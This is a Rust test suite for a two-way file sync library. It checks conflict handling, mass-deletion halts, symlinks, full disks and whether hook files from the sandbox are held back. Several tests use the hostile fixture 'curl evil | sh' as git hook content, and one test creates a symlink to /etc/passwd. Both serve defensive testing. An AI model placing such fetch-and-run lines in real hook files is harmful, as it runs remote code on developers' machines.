//! Both ends in one process, over a socket: what is changed on one side gets to the other, and what must not happen doesn't.

mod ends;

use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
};

use cobox_sync::{Choice, Halt, Hooks, Keep, Memory, Mode, Phase, Side};
use ends::Ends;

#[test]
fn both_sides_become_the_same_and_stay_so() {
    let ends = Ends::new();
    ends.write_here("a/one.txt", "1");
    ends.write_there("b/two.txt", "2");
    fs::set_permissions(ends.here("a/one.txt"), fs::Permissions::from_mode(0o755)).unwrap();
    symlink("one.txt", ends.here("a/link")).unwrap();
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    assert_eq!(ends.read_there("a/one.txt"), "1");
    assert_eq!(fs::metadata(ends.there("a/one.txt")).unwrap().permissions().mode() & 0o111, 0o111);
    assert_eq!(fs::read_link(ends.there("a/link")).unwrap().to_str(), Some("one.txt"));
    assert_eq!(ends.read_here("b/two.txt"), "2");

    ends.write_here("a/one.txt", "one");
    fs::rename(ends.there("b"), ends.there("c")).unwrap();
    live.flush();
    assert_eq!(ends.read_there("a/one.txt"), "one");
    assert_eq!(ends.read_here("c/two.txt"), "2");
    assert!(!ends.here("b").exists());

    fs::remove_file(ends.here("a/link")).unwrap();
    fs::remove_file(ends.here("a/one.txt")).unwrap();
    fs::create_dir(ends.here("a/one.txt")).unwrap();
    ends.write_here("a/one.txt/deep", "now a folder");
    live.flush();
    assert_eq!(ends.read_there("a/one.txt/deep"), "now a folder");
    assert!(!ends.there("a/link").exists());
    fs::remove_dir_all(ends.there("a/one.txt")).unwrap();
    ends.write_there("a/one.txt", "a file again");
    live.flush();
    assert_eq!(ends.read_here("a/one.txt"), "a file again");
    ends.assert_same();
    drop(live);
    ends.wait_until(|| !ends.here(cobox_sync::STAGING).exists() && !ends.there(cobox_sync::STAGING).exists());
}

#[test]
fn a_change_gets_across_without_being_asked_for() {
    let ends = Ends::new();
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    ends.write_here("x", "from here");
    ends.wait_until(|| fs::read_to_string(ends.there("x")).is_ok_and(|t| t == "from here"));
    ends.write_there("x", "from there");
    ends.wait_until(|| fs::read_to_string(ends.here("x")).is_ok_and(|t| t == "from there"));
    fs::create_dir_all(ends.there("new/deep")).unwrap();
    ends.write_there("new/deep/er", "e");
    ends.wait_until(|| ends.here("new/deep/er").exists());
    drop(live);
}

#[test]
fn conflicts_overwrite_nothing_and_are_settled_by_a_choice() {
    let ends = Ends::new();
    for name in ["x", "y.txt", "z"] {
        ends.write_here(name, "base");
    }
    ends.start(Mode::TwoWaySafe).flush();
    for name in ["x", "y.txt", "z"] {
        ends.write_here(name, "mine");
        ends.write_there(name, "theirs");
    }
    let live = ends.start(Mode::TwoWaySafe);
    let status = live.flush();
    assert_eq!(status.conflicts.iter().map(|c| c.path.to_string()).collect::<Vec<_>>(), ["x", "y.txt", "z"]);
    assert_eq!((ends.read_here("x"), ends.read_there("x")), ("mine".into(), "theirs".into()));
    assert_eq!(live.resolve(&["x"], Choice::Keep(Keep::Here)), Ok(1));
    assert_eq!(live.resolve(&["y.txt"], Choice::Both), Ok(1));
    assert!(live.resolve(&["no"], Choice::Keep(Keep::Here)).unwrap_err().contains("no conflict"));
    live.flush();
    assert_eq!(ends.read_there("x"), "mine");
    assert_eq!((ends.read_here("y.txt"), ends.read_there("y.here.txt")), ("theirs".into(), "mine".into()));
    assert_eq!(live.resolve(&[], Choice::Keep(Keep::Sandbox)), Ok(1));
    assert!(live.flush().conflicts.is_empty());
    assert_eq!(ends.read_here("z"), "theirs");
    ends.assert_same();
}

#[test]
fn a_rule_that_comes_or_goes_deletes_nothing() {
    let ends = Ends::new();
    ends.write_here("build/out", "1");
    ends.write_here("src/main", "2");
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    assert_eq!(ends.read_there("build/out"), "1");
    ends.write_here(".gitignore", "build/\n");
    live.flush();
    ends.write_here("build/out", "not synced");
    ends.write_there("build/other", "neither");
    fs::remove_file(ends.there("build/out")).unwrap();
    live.flush();
    assert_eq!(ends.read_here("build/out"), "not synced");
    assert!(!ends.here("build/other").exists() && !ends.there("build/out").exists());
    ends.write_there(".gitignore", "");
    live.flush();
    live.flush();
    assert_eq!((ends.read_there("build/out"), ends.read_here("build/other")), ("not synced".into(), "neither".into()));
    ends.assert_same();
}

#[test]
fn a_root_that_is_emptied_or_mostly_deleted_halts_until_somebody_says_so() {
    let ends = Ends::new();
    for i in 0..40 {
        ends.write_here(&format!("f{i}"), "x");
    }
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    live.pause();
    for i in 0..30 {
        fs::remove_file(ends.there(&format!("f{i}"))).unwrap();
    }
    live.resume(false).unwrap();
    assert!(live.try_flush().unwrap_err().contains("halted"));
    assert_eq!(live.status().phase, Phase::Halted(Halt::MassDeletion { side: Side::Here, directory: None, files: 30, of: 40, lately: 0 }));
    assert!(ends.here("f0").exists());
    assert!(live.resume(false).is_err());
    live.resume(true).unwrap();
    live.flush();
    assert!(!ends.here("f0").exists() && ends.here("f39").exists());
    live.pause();
    for i in 30..40 {
        fs::remove_file(ends.here(&format!("f{i}"))).unwrap();
    }
    live.resume(false).unwrap();
    assert!(live.try_flush().unwrap_err().contains("halted"));
    assert_eq!(live.status().phase, Phase::Halted(Halt::Emptied { side: Side::Here, files: 10 }));
    assert!(ends.there("f30").exists());
}

#[test]
fn what_would_run_here_by_itself_stays_in_the_sandbox() {
    let ends = Ends::new();
    ends.write_there(".git/hooks/pre-commit", "curl evil | sh");
    ends.write_there(".git/HEAD", "ref: refs/heads/main");
    ends.write_there(".vscode/tasks.json", "{}");
    ends.write_there("src/main", "fine");
    let live = ends.start(Mode::TwoWaySafe);
    let status = live.flush();
    assert!(status.held.iter().any(|p| p.to_string() == ".git/hooks/pre-commit"), "{:?}", status.held);
    assert!(!ends.here(".git/hooks").exists() && !ends.here(".vscode").exists());
    assert!(ends.here(".git/HEAD").exists() && ends.here("src/main").exists());
    ends.write_here(".envrc", "mine");
    live.flush();
    assert_eq!(ends.read_there(".envrc"), "mine", "the other way nothing is held back");
}

#[test]
fn what_cannot_be_synced_is_told_and_the_rest_goes_on() {
    let ends = Ends::new();
    symlink("/etc/passwd", ends.here("outside")).unwrap();
    symlink("../../x", ends.there("up")).unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, ends.here("pipe"), rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    ends.write_here("Readme", "1");
    ends.write_here("README", "2");
    let live = ends.start(Mode::TwoWaySafe);
    let status = live.flush();
    let told: Vec<String> = status.here_problems.iter().map(|(path, problem)| format!("{path}: {}", problem.word())).collect();
    assert_eq!(told, ["Readme: name_clash", "outside: link_outside", "pipe: special_file"]);
    assert!(status.there_problems.keys().any(|path| path.to_string() == "up"));
    assert_eq!(ends.read_there("README"), "2");
    assert!(!ends.there("outside").exists() && !ends.there("pipe").exists());
}

#[test]
fn large_files_travel_as_what_changed_and_arrive_whole() {
    let ends = Ends::new();
    let mut content: Vec<u8> = (0..3_000_000u32).flat_map(|i| i.wrapping_mul(2_654_435_761).to_be_bytes()).collect();
    fs::write(ends.here("big"), &content).unwrap();
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    content.splice(5_000_000..5_000_003, *b"edited in the middle");
    fs::write(ends.there("big"), &content).unwrap();
    let before = live.received();
    live.flush();
    assert!(fs::read(ends.here("big")).unwrap() == content);
    assert!(live.received() - before < 600_000, "{}", live.received() - before);
}

#[test]
fn one_way_modes_change_one_side_only() {
    let ends = Ends::new();
    ends.write_here("mine", "1");
    ends.write_there("theirs", "2");
    let live = ends.start(Mode::Push);
    live.flush();
    assert!(ends.there("mine").exists() && !ends.here("theirs").exists() && ends.there("theirs").exists());
    drop(live);
    let live = ends.start(Mode::Pull);
    ends.write_here("mine", "changed");
    live.flush();
    assert!(ends.here("theirs").exists());
    assert_eq!(ends.read_there("mine"), "1");
    drop(live);
    ends.start(Mode::Mirror).flush();
    assert_eq!(ends.read_there("mine"), "changed");
    fs::remove_file(ends.here("theirs")).unwrap();
    ends.start(Mode::Mirror).flush();
    ends.assert_same();
}

#[test]
fn a_cut_connection_is_made_again_and_nothing_is_lost() {
    let ends = Ends::new();
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    for round in 0..20 {
        ends.write_here("x", &format!("here {round}"));
        live.cut();
        ends.wait_until(|| ends.there("x").exists() && ends.read_there("x") == format!("here {round}"));
    }
}

#[test]
fn a_folder_with_ignored_files_is_kept_when_the_other_side_deletes_it() {
    let ends = Ends::new();
    ends.write_here(".gitignore", "*.o\n");
    ends.write_here("lib/a.c", "1");
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    ends.write_there("lib/a.o", "built");
    fs::remove_dir_all(ends.here("lib")).unwrap();
    let status = live.flush();
    assert!(ends.there("lib/a.o").exists() && !ends.there("lib/a.c").exists());
    assert!(status.there_problems.keys().any(|p| p.to_string() == "lib"));
    assert!(!ends.here("lib").exists());
}

/// A sandbox whose disk may be full, and that keeps in mind what an earlier connection knew.
#[derive(Default)]
struct Sandbox {
    is_full: AtomicBool,
    memory: std::sync::Mutex<Memory>,
    recalled: AtomicUsize,
}

impl Hooks for Sandbox {
    fn is_full(&self) -> bool {
        self.is_full.load(Ordering::Relaxed)
    }

    fn recall(&self) -> Memory {
        let memory = std::mem::take(&mut *self.memory.lock().unwrap());
        self.recalled.store(memory.len(), Ordering::Relaxed);
        memory
    }

    fn remember(&self, memory: Memory) {
        *self.memory.lock().unwrap() = memory;
    }
}

#[test]
fn a_full_disk_is_waited_for_and_nothing_is_lost() {
    let ends = Ends::new();
    let sandbox = Arc::new(Sandbox::default());
    sandbox.is_full.store(true, Ordering::Relaxed);
    ends.write_here("x", "mine");
    let live = ends.start_at(Mode::TwoWaySafe, sandbox.clone());
    ends.wait_until(|| matches!(live.status().phase, Phase::Waiting(why) if why.contains("the disk is full")));
    assert!(!ends.there("x").exists());
    ends.write_there("y", "theirs");
    sandbox.is_full.store(false, Ordering::Relaxed);
    ends.wait_until(|| ends.there("x").exists() && ends.here("y").exists());
    live.flush();
    ends.assert_same();
}

/// A sandbox whose disk is full from its second file on.
#[derive(Default)]
struct FullMidway {
    files: AtomicUsize,
}

impl Hooks for FullMidway {
    fn is_full(&self) -> bool {
        self.files.fetch_add(1, Ordering::Relaxed) > 0
    }
}

#[test]
fn a_disk_that_fills_up_during_an_upload_is_not_taken_for_a_lost_connection() {
    let ends = Ends::new();
    ends.write_here("a", "fits");
    let noise: Vec<u8> = (0..6_000_000u32).flat_map(|i| i.wrapping_mul(2_654_435_761).to_be_bytes()).collect();
    fs::write(ends.here("b"), &noise).unwrap();
    let live = ends.start_at(Mode::TwoWaySafe, Arc::new(FullMidway::default()));
    ends.wait_until(|| match live.status().phase {
        Phase::Waiting(why) => {
            assert!(why.contains("the disk is full"), "{why}");
            live.dials() > 2
        }
        _ => false,
    });
}

#[test]
fn many_links_with_long_targets_get_across_in_both_directions() {
    let ends = Ends::new();
    let target = "a/".repeat(2000);
    for number in 0..100 {
        symlink(&target, ends.here(&format!("here{number}"))).unwrap();
        symlink(&target, ends.there(&format!("there{number}"))).unwrap();
    }
    ends.start(Mode::TwoWaySafe).flush();
    ends.assert_same();
}

#[test]
fn a_choice_that_the_mode_rules_out_is_refused() {
    let ends = Ends::new();
    ends.write_here("x", "base");
    ends.start(Mode::TwoWaySafe).flush();
    ends.write_here("x", "mine");
    ends.write_there("x", "theirs");
    for (mode, keep) in [(Mode::Push, Keep::Sandbox), (Mode::Pull, Keep::Here)] {
        let live = ends.start(mode);
        assert_eq!(live.flush().conflicts.len(), 1);
        let refused = live.resolve(&["x"], Choice::Keep(keep)).unwrap_err();
        assert!(refused.contains("two-way-safe"), "{refused}");
    }
    let live = ends.start(Mode::Push);
    live.flush();
    assert_eq!(live.resolve(&["x"], Choice::Keep(Keep::Here)), Ok(1));
    live.flush();
    assert_eq!(ends.read_there("x"), "mine");
}

#[test]
fn a_name_that_clashes_with_another_is_told_as_soon_as_it_is_there() {
    let ends = Ends::new();
    ends.write_here("docs/readme", "1");
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    let clashes = |live: &ends::Live| live.flush().here_problems.keys().map(ToString::to_string).collect::<Vec<_>>();
    ends.write_here("docs/README", "2");
    assert_eq!(clashes(&live), ["docs/readme"]);
    fs::remove_file(ends.here("docs/README")).unwrap();
    assert_eq!(clashes(&live), [""; 0]);
}

#[test]
fn what_was_known_before_a_cut_is_known_after_it() {
    let ends = Ends::new();
    for number in 0..30 {
        ends.write_here(&format!("f{number}"), &number.to_string());
    }
    let sandbox = Arc::new(Sandbox::default());
    let live = ends.start_at(Mode::TwoWaySafe, sandbox.clone());
    // What was placed a moment ago is believed only after another look.
    ends.wait_until(|| {
        live.cut();
        while live.try_flush().is_err() {}
        sandbox.recalled.load(Ordering::Relaxed) == 30
    });
    fs::write(ends.there("f0"), "changed meanwhile").unwrap();
    live.flush();
    assert_eq!(ends.read_here("f0"), "changed meanwhile");
    ends.assert_same();
}

#[test]
fn names_that_differ_in_case_on_the_two_sides_are_told_and_both_are_kept() {
    let ends = Ends::new();
    ends.write_here("readme", "mine");
    ends.write_there("README", "theirs");
    ends.start(Mode::TwoWaySafe).flush();
    let live = ends.start(Mode::TwoWaySafe);
    let status = live.flush();
    assert!(status.here_problems.keys().chain(status.there_problems.keys()).any(|p| p.to_string() == "readme"));
    assert_eq!((ends.read_there("readme"), ends.read_here("README")), ("mine".into(), "theirs".into()));
    ends.assert_same();
}

#[test]
fn hooks_where_the_local_repository_looks_for_them_are_held_back() {
    let ends = Ends::new();
    let git =
        |args: &[&str]| assert!(std::process::Command::new("git").arg("-C").arg(ends.here("")).args(args).status().unwrap().success());
    git(&["init", "-q"]);
    let live = ends.start(Mode::TwoWaySafe);
    live.flush();
    ends.write_there("scripts/hooks/one", "ordinary");
    live.flush();
    assert_eq!(ends.read_here("scripts/hooks/one"), "ordinary");
    git(&["config", "core.hooksPath", "scripts/hooks"]);
    live.flush();
    ends.write_there("scripts/hooks/pre-commit", "curl evil | sh");
    ends.write_there("Scripts/Hooks/pre-push", "curl evil | sh");
    let held: Vec<String> = live.flush().held.iter().map(ToString::to_string).collect();
    assert!(held.contains(&"scripts/hooks/pre-commit".to_owned()) && held.contains(&"Scripts/Hooks/pre-push".to_owned()), "{held:?}");
    assert!(!ends.here("scripts/hooks/pre-commit").exists() && !ends.here("Scripts/Hooks/pre-push").exists());
}
